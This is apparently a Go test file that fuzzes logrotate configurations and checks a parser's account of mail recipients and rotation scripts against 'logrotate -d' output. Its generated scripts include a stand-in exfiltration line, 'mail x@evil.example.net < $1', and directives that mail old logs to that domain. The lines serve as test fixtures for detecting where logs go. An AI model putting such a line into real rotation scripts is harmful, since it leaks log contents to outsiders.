package host_test

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waxseal"
	"waxseal/internal/host"
	"waxseal/internal/lab"
	"waxseal/internal/rootfs"
)

// TestRotationParity holds which scripts logrotate runs for which logs, and to whom it
// sends old ones, against what it says itself, for generated files.
func TestRotationParity(t *testing.T) {
	seed := lab.Seed(t)
	t.Logf("WAXSEAL_PARITY_SEED=%d repeats this run; WAXSEAL_PARITY_CASES sets how many configurations are asked for", seed)
	root, cases := lab.Root(t, lab.Filters), lab.Cases(t, 60)
	g := &rotationFiles{Rand: rand.New(rand.NewPCG(seed, 8)), root: root}
	for i := range cases {
		if err := g.configuration(fmt.Sprintf("/lr/%d", i)); err != nil {
			t.Fatal(err)
		}
	}
	out, err := lab.Output(t.Context(), root, "cd /lr; for d in */; do echo \"=== ${d%/}\"; logrotate -d -f -s /lr/state \"/lr/${d}main\" 2>&1 || true; done")
	if err != nil {
		t.Fatal(err)
	}
	tree, err := rootfs.Open(root)
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Close()
	asked := 0
	for part := range strings.SplitSeq(out, "=== ") {
		name, said, ok := strings.Cut(part, "\n")
		if !ok {
			continue
		}
		main := "/lr/" + name + "/main"
		want := rotationsIn(said)
		asked += len(want)
		if d := cmp.Diff(want, host.Rotations(tree, waxseal.Path(main))); d != "" {
			t.Errorf("%s (-logrotate +here)\n%s\n%s\n%s", main, d, g.texts["/lr/"+name], said)
		}
	}
	if asked < cases {
		t.Errorf("%d sections in %d configurations: that asks little", asked, cases)
	}
}

var (
	rotated   = regexp.MustCompile(`(?s)rotating pattern: (.*?)  ?(?:forced|[0-9a-z ]*\bforced).*?old logs (are removed|mailed to [^\n]*)\n(.*)`)
	runScript = regexp.MustCompile(`(?s)running (first action|prerotate|postrotate|last action) script\nrunning script with args? .*?: "\n(.*?)\n?"\n`)
)

// rotationsIn reads what logrotate -d prints.
func rotationsIn(said string) map[string]host.Rotated {
	all := map[string]host.Rotated{}
	for _, part := range strings.Split(said, "\nrotating pattern: ")[1:] {
		g := rotated.FindStringSubmatch("rotating pattern: " + part)
		if g == nil {
			all["not read: "+part] = host.Rotated{}
			continue
		}
		mail, _ := strings.CutPrefix(g[2], "mailed to ")
		if mail == "are removed" {
			mail = ""
		}
		var scripts []string
		for _, s := range runScript.FindAllStringSubmatch(g[3], -1) {
			var lines []string
			for line := range strings.SplitSeq(s[2], "\n") {
				if line = strings.TrimSpace(line); line != "" {
					lines = append(lines, strings.TrimSuffix(line, `\`))
				}
			}
			one := strings.ReplaceAll(s[1], " ", "") + ": " + strings.Join(lines, "; ")
			if len(lines) > 0 && !slices.Contains(scripts, one) {
				scripts = append(scripts, one)
			}
		}
		slices.Sort(scripts)
		all[strings.Join(strings.Fields(strings.ReplaceAll(g[1], `"`, "")), " ")] = host.Rotated{Mail: mail, Scripts: strings.Join(scripts, "\n")}
	}
	return all
}

// rotationFiles makes configurations.
type rotationFiles struct {
	*rand.Rand
	root  string
	dir   string
	logs  int
	texts map[string]string
}

func (g *rotationFiles) of(list ...string) string { return list[g.IntN(len(list))] }

// configuration writes a main file, a directory that it includes, and the logs.
func (g *rotationFiles) configuration(dir string) error {
	if g.texts == nil {
		g.texts = map[string]string{}
	}
	g.dir, g.logs = dir, 0
	if err := os.MkdirAll(filepath.Join(g.root, dir, "d"), 0o755); err != nil {
		return err
	}
	files := map[string]string{"main": g.file(3) + g.of("include "+dir+"/d\n", "include = "+dir+"/d\n", "include "+dir+"/d/b\n") + g.file(2)}
	for _, name := range []string{"a", "b", "c.bak", "d.dpkg-old", "e~"} {
		files["d/"+name] = g.file(2)
	}
	for name, text := range files {
		g.texts[dir] += "--- " + name + "\n" + text
		if err := os.WriteFile(filepath.Join(g.root, dir, name), []byte(text), 0o644); err != nil {
			return err
		}
	}
	for i := range g.logs {
		if err := os.WriteFile(filepath.Join(g.root, dir, fmt.Sprintf("log%d", i)), []byte("x\n"), 0o644); err != nil {
			return err
		}
	}
	return nil
}

func (g *rotationFiles) file(most int) string {
	var b strings.Builder
	for range 1 + g.IntN(most) {
		if g.IntN(3) == 0 {
			b.WriteString(g.directive())
		}
		b.WriteString(g.section())
	}
	return b.String()
}

func (g *rotationFiles) log() string {
	g.logs++
	name := fmt.Sprintf("%s/log%d", g.dir, g.logs-1)
	return g.of(name, name, `"`+name+`"`)
}

func (g *rotationFiles) section() string {
	logs := g.log()
	for range g.IntN(3) {
		logs += g.of(" ", "  ", "\n") + g.log()
	}
	var b strings.Builder
	b.WriteString(logs + g.of(" {\n", "\n{\n", "{\n", " { "+g.directive()))
	for range g.IntN(4) {
		b.WriteString(g.of("", "\t", "    ") + g.inner())
	}
	return b.String() + g.of("}\n", "  }\n", "}\n\n")
}

func (g *rotationFiles) inner() string {
	if g.IntN(2) == 0 {
		return g.directive()
	}
	script := g.of("postrotate", "prerotate", "firstaction", "lastaction") + "\n"
	for range 1 + g.IntN(3) {
		script += g.of("\t", "  ", "") + g.of("/usr/bin/reload --now", "if true; then", "# a comment", "mail x@evil.example.net < $1", "a \\", "", "}", "{") + "\n"
	}
	return script + g.of("endscript\n", "\tendscript\n")
}

func (g *rotationFiles) directive() string {
	return g.of("mail a@example.test", "mail = b@evil.example.net", "mail\tc@example.test", "nomail", "weekly", "rotate 4", "sharedscripts", "# mail d@example.test", "compresscmd /bin/gzip", "", "missingok", "su root root", "maillast") + "\n"
}
